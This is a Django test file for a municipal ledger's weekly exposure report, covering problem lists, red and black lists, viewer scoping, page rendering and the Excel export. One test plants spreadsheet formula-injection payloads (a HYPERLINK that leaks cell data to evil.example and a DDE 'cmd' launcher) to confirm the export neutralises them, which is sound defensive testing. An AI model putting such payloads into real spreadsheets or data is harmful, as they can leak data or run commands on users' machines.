"""The weekly exposure on a hand-built week whose worst problems and red and black lists are
known in advance."""

import datetime as dt
import io

import pytest
from django.template.loader import render_to_string
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from ledger import services
from ledger.choices import Severity, Source
from ledger.models import Problem
from ledger.tests.factories import stored_photo
from reports.choices import ReportKind, ReportStatus
from reports.kinds import weekly_exposure
from reports.models import Report
from reports.periods import week_of
from reports.selectors import viewer_scope
from reports.workbook import build_workbook

from .ledger_history import at, due, found

pytestmark = pytest.mark.django_db

WEEK = week_of(dt.date(2025, 3, 12))  # Monday 10 to Sunday 16 March 2025
BEFORE = dt.date(2025, 3, 3)
MON, TUE, WED, THU, FRI = (dt.date(2025, 3, d) for d in (10, 11, 12, 13, 14))
NEXT_TUE = dt.date(2025, 3, 18)


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def rules(settings):
    settings.REPORT_EXPOSURE_UNITS = 1
    settings.REPORT_EXPOSURE_DISTRICTS = 1
    settings.REPORT_EXPOSURE_MIN_DUE = 3
    settings.REPORT_EXPOSURE_PROBLEMS = 10
    return settings


@pytest.fixture
def week(city, rules):
    """What each problem counts as is written beside it. District A: office A and the city
    department (its problems lie at A's points); district B: office B."""
    a, b = city.points_a[0], city.points_b[0]
    p = {}
    # Office A: five due; three closed on time, one closed late in the week, one after the week.
    for n in range(3):
        p[f"a{n}"] = due(city, found_on=BEFORE, deadline=WED, closed_at=at(TUE), point=a)
    p["a_late"] = due(city, found_on=BEFORE, deadline=WED, closed_at=at(THU), point=a)
    p["a_after"] = due(city, found_on=BEFORE, deadline=FRI, closed_at=at(NEXT_TUE), point=a)
    # Office B: three due Tuesday, one closed on time, two open; one overdue since the week before.
    p["b_ok"] = due(city, found_on=BEFORE, deadline=TUE, closed_at=at(MON), point=b)
    p["b_open1"] = due(city, found_on=BEFORE, deadline=TUE, point=b)
    p["b_open2"] = due(city, found_on=BEFORE, deadline=TUE, point=b)
    p["b_old"] = due(city, found_on=dt.date(2025, 3, 1), deadline=dt.date(2025, 3, 5), point=b)
    # The city department: two due and open, below the minimum of three.
    for n in range(2):
        p[f"c{n}"] = due(city, found_on=BEFORE, deadline=WED, point=a, unit=city.city_department)
    # Found in the week: urgent (unannounced, with a photo), serious, serious then invalid,
    # general unannounced; a serious one found the week before.
    p["urgent"] = found(city, at(WED), point=a, severity=Severity.URGENT, source=Source.UNANNOUNCED_VISIT,
                        photos=[stored_photo()])
    p["serious"] = found(city, at(MON), point=b, severity=Severity.SERIOUS)
    invalid = found(city, at(TUE), point=a, severity=Severity.SERIOUS)
    services.problem_invalidate(problem=invalid, reason="不属实", by=city.hq, at=at(WED))
    p["unannounced"] = found(city, at(THU), point=b, source=Source.UNANNOUNCED_VISIT)
    found(city, at(BEFORE), point=a, severity=Severity.SERIOUS)
    # A problem closed the week before, found again on Friday.
    original = due(city, found_on=BEFORE, deadline=dt.date(2025, 3, 7), closed_at=at(dt.date(2025, 3, 5)), point=a)
    p["original"] = original
    p["rebound"] = services.problem_record_rebound(original=original, by=city.hq, found_at=at(FRI), at=at(FRI))
    return p


def compute(district=None):
    with translation.override("en"):
        return weekly_exposure.compute(period=WEEK, district=district, progress=lambda percent: None)


def listed(data, key):
    entry = next(entry for entry in data["problem_lists"] if entry["key"] == key)
    return entry["total"], [item["code"] for item in entry["items"]]


def codes(*problems):
    return [problem.code for problem in problems]


def test_the_worst_problems_of_the_week_are_listed_worst_first(week):
    data = compute()
    assert listed(data, "serious") == (2, codes(week["urgent"], week["serious"]))
    assert listed(data, "unannounced") == (2, codes(week["urgent"], week["unannounced"]))
    assert listed(data, "rebounds") == (1, codes(week["rebound"]))
    overdue = codes(week["b_old"], week["b_open1"], week["b_open2"], week["c0"], week["c1"], week["a_after"])
    assert listed(data, "overdue") == (6, overdue)


def test_each_problem_names_its_unit_and_how_late_it_was_at_the_weeks_end(week, city):
    items = {item["code"]: item for entry in compute()["problem_lists"] for item in entry["items"]}
    old = items[week["b_old"].code]
    assert old["days_overdue_at_end"] == 12  # deadline 5 March, the week ends 16 March
    assert (old["unit_id"], old["unit"], old["district_id"]) == (city.office_b.pk, "乙街道办", city.district_b.pk)
    assert items[week["a_after"].code]["days_overdue_at_end"] == 3
    assert items[week["rebound"].code]["rebound_of"] == week["original"].code
    assert items[week["c0"].code]["team_ids"] == [city.team.pk]  # the city department leads the team


def test_before_photos_are_referenced_through_the_ledgers_protected_photo_view(week):
    items = {item["code"]: item for entry in compute()["problem_lists"] for item in entry["items"]}
    photos = items[week["urgent"].code]["photos"]
    assert len(photos) == 1
    assert photos[0]["thumbnail_url"] == reverse("ledger:photo_thumbnail", args=[photos[0]["id"]])
    assert items[week["serious"].code]["photos"] == []


def test_each_list_shows_at_most_the_configured_number_but_counts_all(week, settings):
    settings.REPORT_EXPOSURE_PROBLEMS = 2
    data = compute()
    assert listed(data, "overdue") == (6, codes(week["b_old"], week["b_open1"]))
    assert data["rule"]["problems"] == 2


def test_red_and_black_lists_follow_the_published_rule(week, city):
    data = compute()
    # Office A: 3 of 5 on time (60 %), 1 overdue; office B: 1 of 3, 3 overdue; the city
    # department has only 2 due. District A: 3 of 7; district B: 1 of 3.
    red, black = data["red_list"], data["black_list"]
    assert [(row["id"], row["due"], row["closed_on_time"], row["overdue"]) for row in red["units"]] == [
        (city.office_a.pk, 5, 3, 1)]
    assert [(row["id"], row["due"], row["closed_on_time"], row["overdue"]) for row in black["units"]] == [
        (city.office_b.pk, 3, 1, 3)]
    assert red["units"][0]["on_time_rate"] == {"numerator": 3, "denominator": 5, "value": 0.6}
    assert [(row["id"], row["due"], row["overdue"]) for row in red["districts"]] == [(city.district_a.pk, 7, 3)]
    assert [(row["id"], row["due"], row["overdue"]) for row in black["districts"]] == [(city.district_b.pk, 3, 3)]
    assert data["below_minimum"] == {"units": 1, "districts": 0}


def test_a_unit_below_the_minimum_number_due_is_never_listed(week, city, settings):
    settings.REPORT_EXPOSURE_UNITS = 5
    data = compute()
    listed_units = [row["id"] for row in data["red_list"]["units"] + data["black_list"]["units"]]
    assert city.city_department.pk not in listed_units
    settings.REPORT_EXPOSURE_MIN_DUE = 2  # now the department (0 of 2 on time) is the worst
    settings.REPORT_EXPOSURE_UNITS = 1
    data = compute()
    assert [row["id"] for row in data["black_list"]["units"]] == [city.city_department.pk]
    assert data["below_minimum"]["units"] == 0


def test_a_unit_with_every_due_problem_on_time_and_none_overdue_is_never_on_the_black_list(city, rules):
    for point in (city.points_a[0], city.points_b[0]):
        for _n in range(3):
            due(city, found_on=BEFORE, deadline=WED, closed_at=at(TUE), point=point)
    data = compute()
    assert len(data["red_list"]["units"]) == 1
    assert data["black_list"]["units"] == []


def test_the_rule_text_is_kept_with_the_figures_it_used(week):
    rule = compute()["rule"]
    assert (rule["min_due"], rule["units"], rule["districts"]) == (3, 1, 1)
    assert "at least 3 problems due" in rule["text"]


def test_a_district_report_lists_only_that_districts_problems_and_places(week, city):
    data = compute(district=city.district_b)
    assert listed(data, "overdue") == (3, codes(week["b_old"], week["b_open1"], week["b_open2"]))
    assert listed(data, "serious") == (1, codes(week["serious"]))
    assert [row["id"] for row in data["red_list"]["districts"]] == [city.district_b.pk]
    assert [row["id"] for row in data["red_list"]["units"]] == [city.office_b.pk]


# --- Outputs -----------------------------------------------------------------------------------------


def exposure_report(data, **extra):
    return Report.objects.create(kind=ReportKind.WEEKLY_EXPOSURE, period_start=WEEK.start, period_end=WEEK.end,
                                 status=ReportStatus.DONE, data=data, finished_at=timezone.now(), **extra)


def render(report, user):
    request = RequestFactory().get("/")
    request.user = user
    with translation.override("en"):
        return render_to_string(weekly_exposure.TEMPLATE, {
            "report": report, "data": report.data, "viewer_scope": viewer_scope(user)}, request=request)


def test_the_page_says_draft_until_published_and_prints_the_rule(week, city):
    report = exposure_report(compute())
    page = render(report, city.hq)
    assert 'data-test="draft"' in page
    assert "at least 3 problems due in the week" in page
    assert week["urgent"].code in page and week["b_old"].code in page
    assert reverse("ledger:photo_thumbnail", args=[week["urgent"].photos.get().pk]) in page
    report.published_at, report.published_by = timezone.now(), city.hq
    page = render(report, city.hq)
    assert 'data-test="draft"' not in page and 'data-test="published"' in page


def test_a_district_lead_sees_the_whole_lists_of_places_but_only_their_districts_problems(week, city):
    page = render(exposure_report(compute()), city.other_district_lead)  # district B
    assert week["b_old"].code in page and week["serious"].code in page
    assert week["urgent"].code not in page and week["c0"].code not in page
    assert "乙街道办" in page and "甲街道办" in page  # both lists of units are city-wide
    assert 'class="report-mine"' in page


def test_a_unit_handler_sees_only_their_units_problems(week, city):
    page = render(exposure_report(compute()), city.unit_handler)  # office A
    assert week["a_after"].code in page and week["urgent"].code in page
    assert week["b_old"].code not in page and week["c0"].code not in page


def test_the_workbook_has_a_sheet_per_section_with_frozen_headers_and_a_chart(week, city):
    report = exposure_report(compute())
    workbook = load_workbook(io.BytesIO(build_workbook(report, language="en")))
    overdue = workbook["Overdue at the week's end"]
    assert overdue.freeze_panes == "A4"
    assert overdue["B4"].value == week["b_old"].code
    assert overdue["I4"].value == 12
    red = workbook["Red list"]
    assert red["C4"].value == "甲街道办" and red["F4"].value == 0.6
    assert len(red._charts) == 1
    assert {"Serious and urgent problems fou", "Rebounds", "Found by unannounced visits", "Black list",
            "Rule"} <= set(workbook.sheetnames)


def test_a_control_character_or_a_formula_in_a_problem_does_not_break_the_exposure_workbook(week, city):
    # Text from before control characters were refused at input (issue 8, defects 2 and 3).
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    Problem.objects.filter(pk=week["urgent"].pk).update(description="water leak\u0001 near gate" + hyperlink,
                                                        address="=cmd|' /C calc'!A0")
    Problem.objects.filter(pk=week["serious"].pk).update(description=hyperlink, address="-5 apples")
    report = exposure_report(compute())

    workbook = load_workbook(io.BytesIO(build_workbook(report, language="en")))

    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = {cell.value for cell in cells}
    assert {"water leak near gate" + hyperlink, "=cmd|' /C calc'!A0", hyperlink, "-5 apples"} <= values


# --- Through the report page ---------------------------------------------------------------------


def test_hq_reviews_the_draft_on_the_report_page_and_staff_see_it_only_once_published(week, city, login):
    report = exposure_report(compute())
    url = reverse("reports:report_detail", args=[report.pk])
    page = login(city.hq).get(url)
    assert page.status_code == 200
    assert 'data-test="draft"' in page.content.decode() and week["urgent"].code in page.content.decode()
    assert login(city.unit_handler).get(url).status_code == 404
    Report.objects.filter(pk=report.pk).update(published_at=timezone.now(), published_by=city.hq)
    page = login(city.unit_handler).get(url).content.decode()
    assert 'data-test="draft"' not in page
    assert week["a_after"].code in page and week["b_old"].code not in page


def test_the_before_photo_in_the_exposure_opens_for_staff_who_may_see_the_problem(week, city, login):
    photo = week["urgent"].photos.get()
    assert login(city.unit_handler).get(reverse("ledger:photo_thumbnail", args=[photo.pk])).status_code == 200
    assert login(city.other_district_lead).get(reverse("ledger:photo_thumbnail", args=[photo.pk])).status_code == 404


def test_the_api_gives_a_unit_handler_only_their_units_problems_of_the_exposure(week, city):
    from ledger.tests.api_support import client_for

    report = exposure_report(compute(), published_at=timezone.now(), published_by=city.hq)
    url = reverse("report-detail", args=[report.pk])

    def codes_of(user):
        data = client_for(user).get(url).json()["data"]
        return {item["code"] for entry in data["problem_lists"] for item in entry["items"]}, data

    whole, _ = codes_of(city.hq)
    assert {week["urgent"].code, week["b_old"].code} <= whole
    mine, data = codes_of(city.unit_handler)  # office A
    assert week["urgent"].code in mine and week["b_old"].code not in mine and week["c0"].code not in mine
    assert data["red_list"] == compute()["red_list"]  # the lists of places stay city-wide
